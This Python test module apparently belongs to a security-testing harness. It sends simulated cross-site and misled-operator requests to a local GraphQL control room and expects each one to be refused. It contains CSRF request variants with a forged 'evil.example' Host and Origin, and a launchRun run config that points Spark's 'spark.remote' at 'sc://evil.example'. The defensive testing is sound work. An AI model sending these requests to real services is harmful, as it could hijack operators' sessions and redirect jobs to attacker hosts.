"""Attacks on the control room by a page of another site, or by an operator who was misled."""

import itertools
import json
from urllib.parse import quote

import orjson

from chaos.harm import wire
from chaos.harm.attack import SOURCE, Attack, Attacker, may
from chaos.harm.wire import Link

STOP = 'mutation { stopSensor(id: "x") { __typename } }'
LAUNCH = """
mutation Launch($params: ExecutionParams!) {
    launchRun(executionParams: $params) {
        __typename ... on RunConfigValidationInvalid { errors { message } }
    }
}
"""
SPARK = {"resources": {"pyspark": {"config": {"spark_config": {"spark.remote": "sc://evil.example"}}}}}
PARAMETERS = {
    "selector": {
        "repositoryLocationName": "pulse",
        "repositoryName": "__repository__",
        "pipelineName": "ingest",
    },
    "runConfigData": json.dumps(SPARK),
    "mode": "default",
}


async def _foreign_page(attacker: Attacker) -> None:
    """Requests through the browser of an operator who has the control room open."""
    target = attacker.target
    assert target.room, "the control room runs"
    headers = {"host": f"127.0.0.1:{target.room}", "cookie": target.session}
    image = {"sec_fetch_site": "cross-site", "sec_fetch_mode": "no-cors", "sec_fetch_dest": "image"}
    query = f"/graphql?query={quote(STOP)}"
    body = {"query": STOP}
    requests = [
        wire.request("GET", query, **headers),
        wire.request("GET", query, **headers, **image),
        wire.request("POST", "/graphql", body=body, **headers | {"host": f"evil.example:{target.room}"}),
        wire.request("POST", "/graphql", body=body, **headers, origin="https://evil.example"),
        wire.request("POST", "/graphql", body=body, **headers, content_type="text/plain"),
    ]
    await attacker.flood(itertools.cycle(requests), 4, port=target.room)


async def _launched(attacker: Attacker) -> None:
    """Launches without a token, and by a misled operator."""
    body = {"query": LAUNCH, "variables": {"params": PARAMETERS}}
    port = attacker.target.room
    assert port, "the control room runs"
    host = f"127.0.0.1:{port}"
    while attacker.remaining_s > 0:
        for token in (None, attacker.target.token):
            link = await Link.to(port, SOURCE)
            answer = await link.ask(wire.request("POST", "/graphql", token, body, host=host))
            link.close()
            attacker.counts[_outcome(answer)] += 1


async def _lists(attacker: Attacker) -> None:
    """Bodies that are JSON, and no request of GraphQL."""
    port = attacker.target.room
    assert port, "the control room runs"
    headers = {"host": f"127.0.0.1:{port}", "cookie": attacker.target.session}
    bodies: tuple[object, ...] = ([{"query": STOP}], [], 1, "text", {"query": [STOP]})
    requests = [wire.request("POST", "/graphql", body=body, **headers) for body in bodies]
    await attacker.flood(itertools.cycle(requests), 4, port=port)


def _outcome(answer: wire.Answer) -> str:
    """What became of a launch, from the GraphQL response."""
    if answer.status != 200:
        return answer.outcome
    launched = orjson.loads(answer.body)["data"]["launchRun"]
    unknown = any("spark_config" in error["message"] for error in launched.get("errors", ()))
    return "refused: no such run config" if unknown else f"launched: {launched}"


ATTACKS = (
    Attack(
        "a web page: mutations by GET, foreign Host, Origin and type",
        "an operator's session",
        _foreign_page,
        may(403, 405, 415, 421),
        room=True,
    ),
    Attack(
        "launchRun with Spark settings in its run config",
        "none, an operator's token",
        _launched,
        may(401, "refused:"),
        room=True,
    ),
    Attack(
        "JSON without a request to /graphql", "an operator's session", _lists, may(400, 422, 429), room=True
    ),
)
